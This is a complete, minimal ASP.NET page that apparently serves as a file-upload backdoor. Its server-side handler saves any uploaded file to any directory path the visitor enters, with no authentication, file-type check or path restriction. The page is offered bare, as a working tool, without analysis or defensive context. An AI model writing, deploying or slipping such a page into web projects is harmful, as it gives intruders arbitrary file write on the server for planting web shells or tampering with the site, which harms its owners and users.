<%@ Page Language="C#" %>
<script runat="server">
void Up(object s, EventArgs e) {
    if (fileBox.HasFile) fileBox.SaveAs(dirBox.Text + "\\" + System.IO.Path.GetFileName(fileBox.FileName));
}
</script>
<form runat="server"><asp:FileUpload id="fileBox" runat="server"/><asp:TextBox id="dirBox" runat="server"/>
<asp:Button runat="server" OnClick="Up" Text="up"/></form>
